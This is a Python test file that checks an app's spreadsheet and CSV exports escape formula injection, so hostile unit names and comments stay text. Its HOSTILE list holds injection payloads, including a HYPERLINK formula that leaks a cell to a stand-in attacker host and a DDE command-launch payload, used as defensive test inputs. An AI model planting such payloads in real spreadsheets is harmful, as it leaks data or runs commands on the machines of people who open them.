"""No formula in a spreadsheet the app writes: hostile names and comments stay text."""

import csv
import io
from datetime import timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from documents.files import render_file
from documents.spreadsheet import append_text_row, csv_rows, neutralise
from documents.synthesis import Agreed, Item, build
from documents.synthesis_doc import synthesis_xlsx
from models.commands.answers import answer_submit, comment_save
from models.commands.dispositions import disposition_set
from models.commands.rounds import round_open
from models.commands.units import unit_create
from models.ids import id_of
from tests.conftest import T0
from tests.factories import directive_with_draft, world

HOSTILE = [
    '=HYPERLINK("http://attacker.test/?leak="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1,2)",
    "  =1+2",
    "\uff1d1+2",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_trigger_gets_an_apostrophe(value: str) -> None:
    assert neutralise(value) == "'" + value


def test_ordinary_text_is_unchanged() -> None:
    for value in ["Ban Tuyên giáo Tỉnh ủy", "Tiếp thu, chỉnh sửa", "1. Tăng cường", "a=b", ""]:
        assert neutralise(value) == value
    assert neutralise(None) == ""


def _formulas(data: bytes) -> list[str]:
    wb = load_workbook(io.BytesIO(data))
    return [
        f"{ws.title}!{cell.coordinate}={cell.value!r}"
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith("="))
    ]


def _texts(data: bytes) -> list[str]:
    wb = load_workbook(io.BytesIO(data))
    return [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value]


@given(st.lists(st.text(max_size=30), min_size=1, max_size=6))
def test_no_text_ever_becomes_a_formula_cell(values: list[str]) -> None:
    wb = Workbook()
    append_text_row(wb.active, values)
    out = io.BytesIO()
    wb.save(out)
    assert _formulas(out.getvalue()) == []
    assert all(c.data_type == "s" for c in wb.active[1] if c.value)


def test_csv_rows_are_neutralised_too() -> None:
    out = io.StringIO()
    csv.writer(out).writerows(csv_rows([["Huyện ủy", "=1+2"], ["@x", 3]]))
    assert out.getvalue().splitlines() == ["Huyện ủy,'=1+2", "'@x,3"]


def test_synthesis_xlsx_with_hostile_names_and_comments_has_no_formula(session, links):
    w = world(session, T0)
    hostile_unit = unit_create(
        session, name=HOSTILE[0], email="hostile@binhphuoc.test", by="test", now=T0
    )
    did = directive_with_draft(session, w, T0)
    opened = round_open(
        session,
        directive_id=did,
        kind="written",
        unit_ids=[id_of(hostile_unit), id_of(w.units[0])],
        letter_number="490-CV/BDVTU",
        by="canbo",
        now=T0 + timedelta(days=8),
        links=links,
    )
    now = T0 + timedelta(days=9)
    comments = []
    for unit, texts in [(hostile_unit, HOSTILE[1:4]), (w.units[0], HOSTILE[4:])]:
        token = opened.tokens[id_of(unit)]
        for text in texts:
            c = comment_save(session, raw_token=token, position="disagree", text=text, now=now)
            comments.append(id_of(c))
        answer_submit(session, raw_token=token, now=now)
    disposition_set(
        session, comment_id=comments[0], decision="explain", response="=2+5", by="canbo", now=now
    )

    data = synthesis_xlsx(session, did)
    assert _formulas(data) == []
    texts = _texts(data)
    assert "'" + HOSTILE[0] in texts  # the unit's name, as written, behind an apostrophe
    assert "'=cmd|' /C calc'!A0" in texts
    assert any("=2+5" in t for t in texts)  # the response, inside its disposition text
    # The download route renders through the same writer.
    served, media = render_file(session, did, "bang-tong-hop.xlsx")
    assert media.endswith("spreadsheetml.sheet") and _formulas(served) == []


def test_pure_synthesis_with_raw_triggers_has_no_formula(session, links):
    """Values that never went through the text rules (a tab kept, a CR) are escaped too."""
    w = world(session, T0)
    did = directive_with_draft(session, w, T0)
    items = [
        Item(i, "II.1", "=Mục II.1", subject, text, "partial", "@phản hồi")
        for i, (subject, text) in enumerate(zip(HOSTILE, reversed(HOSTILE), strict=True), 1)
    ]
    s = build(items, [Agreed("=Ban Tổ chức", "+88-CV/BTCTU", "-20/7/2023")])
    data = synthesis_xlsx(session, did, s)
    assert _formulas(data) == []
    assert "'\t=1+2" in _texts(data)
